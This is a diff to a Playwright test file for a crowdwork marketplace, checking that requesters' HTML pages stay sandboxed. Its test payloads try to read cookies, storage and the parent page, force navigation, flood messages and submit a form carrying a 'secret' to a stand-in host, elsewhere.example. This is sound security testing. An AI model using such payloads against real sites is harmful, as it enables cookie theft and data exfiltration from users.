@@ -7,12 +7,13 @@ from urllib.parse import urlsplit
 import pytest
 from django.conf import settings as django_settings
 from django.test import override_settings
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Error, Page, expect
 from pytest_django.live_server_helper import LiveServer
 
 from marketplace.models import HIT, Assignment, Worker
 from marketplace.models.assignment import AssignmentState
 from marketplace.worker_site import frames, origins
+from tests import attacks
 from tests.marketplace.conftest import Market
 from tests.marketplace.worker_site.conftest import html_question
 from tests.marketplace.worker_site.test_submitting import answers
@@ -157,63 +158,105 @@ def test_a_frame_grows_with_what_it_holds_and_a_page_as_tall_as_its_frame_does_n
     assert box["height"] < 1000
 
 
-HOSTILE = """<!doctype html><title>Hostile</title><pre id=out></pre>
-<form id=away action="https://elsewhere.example/collect"><input name=secret value=1></form>
-<script>
-const tried = {};
-const attempt = (name, act) => { try { tried[name] = String(act()); } catch (error) { tried[name] = error.name; } };
-attempt("cookies", () => document.cookie);
-attempt("storage", () => localStorage.length);
-attempt("parent's page", () => parent.document.title);
-attempt("parent's address", () => parent.location.href);
-attempt("top", () => { top.location = "/sign-out-by-force"; });
-attempt("window", () => window.open("/tasks"));
-attempt("alert", () => alert("boo"));
-attempt("origin", () => self.origin);
-document.getElementById("out").textContent = JSON.stringify(tried);
-parent.postMessage({ mturkhub: "submitted" }, "*");
-parent.postMessage({ mturkhub: "height", height: 1e12 }, "*");
-fetch("/tasks", { credentials: "include" }).then(
-  () => { document.title = "read"; }, () => { document.title = "refused"; });
-setTimeout(() => document.getElementById("away").submit(), 100);
-</script>"""
+@pytest.fixture(params=["preview", "work"])
+def show(
+    request: pytest.FixtureRequest, market: Market, site: str, page: Page
+) -> Callable[[str], Assignment | None]:
+    """Shows a requester's page in a preview, or to a Worker who has accepted it."""
+
+    def show(html: str) -> Assignment | None:
+        hit = market.create_hit(Question=html_question(html))
+        page.goto(site)
+        page.goto(f"{site}/mturk/preview?groupId={hit.hit_type.mturk_id}")
+        if request.param == "preview":
+            return None
+        accept: Callable[[HIT], Assignment] = request.getfixturevalue("accept")
+        return accept(hit)
+
+    return show
 
 
 def test_a_hostile_page_reaches_nothing_of_the_workers(
-    market: Market, site: str, accept: Callable[[HIT], Assignment], page: Page
+    show: Callable[[str], Assignment | None], page: Page
 ) -> None:
-    popups: list[Page] = []
-    page.context.on("page", lambda popup: popups.append(popup))
-    hit = market.create_hit(Question=html_question(HOSTILE))
-    sent_elsewhere: list[str] = []
-    page.on(
-        "request", lambda request: sent_elsewhere.append(request.url) if "elsewhere" in request.url else None
-    )
+    assignment = show(attacks.EVERYTHING)
+    address, title = page.url, page.title()
 
-    assignment = accept(hit)
+    with attacks.watched(page) as noticed:
+        said = attacks.tried_by(page.frames[1])
+        page.wait_for_timeout(500)
 
-    frame = page.frames[1]
-    tried = frame.evaluate("JSON.parse(document.getElementById('out').textContent)")
-    assert tried == {
-        "cookies": "SecurityError",
-        "storage": "SecurityError",
-        "parent's page": "SecurityError",
-        "parent's address": "SecurityError",
-        "top": "SecurityError",
-        "window": "null",
-        "alert": "undefined",
-        "origin": "null",
-    }
-    page.wait_for_timeout(400)
-    assert sent_elsewhere == []
-    assert popups == []
-    # The hints were not believed: the Worker is where they were, and the frame no taller than a page.
-    assert page.url == f"{site}/tasks/{assignment.mturk_id}"
-    assignment.refresh_from_db()
-    assert assignment.state == AssignmentState.ACCEPTED
+    assert said == attacks.REFUSED
+    assert noticed == attacks.Noticed()
+    assert (page.url, page.title()) == (address, title)
+    # The hints were not believed: the Worker holds the HIT, and the frame is no taller than a page.
+    if assignment:
+        assignment.refresh_from_db()
+        assert assignment.state == AssignmentState.ACCEPTED
     box = page.locator("#work-frame").bounding_box()
     assert box
     assert box["height"] <= 12_100
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["location = 'https://elsewhere.example/'", "document.forms[0].submit()"],
+    ids=["address", "form"],
+)
+def test_a_page_cannot_send_its_frame_elsewhere(
+    show: Callable[[str], Assignment | None], page: Page, script: str
+) -> None:
+    gone: list[str] = []
+    page.on("request", lambda request: gone.append(request.url) if "elsewhere" in request.url else None)
+
+    with page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
+        show(
+            f'<form action="https://elsewhere.example/collect"><input name=a></form>{attacks.page_that(script)}'
+        )
+
+    assert gone == []
+
+
+def test_a_page_that_hangs_is_stopped_and_said_so_while_the_page_around_lives(
+    show: Callable[[str], Assignment | None], page: Page
+) -> None:
+    assignment = show(attacks.page_that(attacks.NEVER_ENDING["an endless loop"]))
+
+    page.get_by_text(f"did not answer for {20 if assignment else 5} seconds").wait_for()
+
+    assert page.locator("iframe").count() == 0
+    if assignment:
+        page.get_by_role("button", name="Return this HIT").click()
+        page.get_by_text("You returned this HIT.").wait_for()
+    else:
+        page.get_by_role("link", name="Sign in to accept").click()
+        page.wait_for_url("**/sign-in?**")
+
+
+def test_a_page_that_floods_the_one_around_is_stopped_and_the_server_asked_no_more_than_once_a_second(
+    show: Callable[[str], Assignment | None], page: Page
+) -> None:
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url) if request.url.endswith("/state") else None)
+
+    show(attacks.page_that(attacks.FLOOD_THAT_ANSWERS))
+
+    page.get_by_text("flooded this one with messages").wait_for()
+    assert len(asked) <= 3
+
+
+def test_hints_are_asked_about_once_a_second_at_most(
+    accept: Callable[[HIT], Assignment], market: Market, page: Page
+) -> None:
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url) if request.url.endswith("/state") else None)
+    hints = "setInterval(() => parent.postMessage({mturkhub: 'submitted'}, '*'), 5);"
+
+    accept(market.create_hit(Question=html_question(attacks.page_that(hints))))
+    page.wait_for_timeout(3000)
+
+    # A busy machine asks less often, never more.
+    assert 1 <= len(asked) <= 6
 
 
 def test_requesters_html_opened_by_itself_is_in_the_sandbox_too(
@@ -224,12 +267,11 @@ def test_requesters_html_opened_by_itself_is_in_the_sandbox_too(
     page.get_by_label("E-mail address").fill("wanda@example.org")
     page.get_by_label("Password").fill("colours and numbers")
     page.get_by_role("button", name="Sign in").click()
-    # By itself it may go where it likes: it is nobody's frame.
-    staying = HOSTILE.replace("setTimeout", "0 && setTimeout").replace("top.location", "self.unused")
-    hit = market.create_hit(Question=html_question(staying))
+    hit = market.create_hit(Question=html_question("<p>Hello</p>"))
 
     page.goto(frames.frame_for(hit).url)
 
-    tried = page.evaluate("JSON.parse(document.getElementById('out').textContent)")
-    assert tried["cookies"] == tried["storage"] == "SecurityError"
-    assert tried["origin"] == "null"
+    assert page.evaluate("self.origin") == "null"
+    for act in ("document.cookie", "localStorage.length"):
+        with pytest.raises(Error, match="SecurityError"):
+            page.evaluate(act)
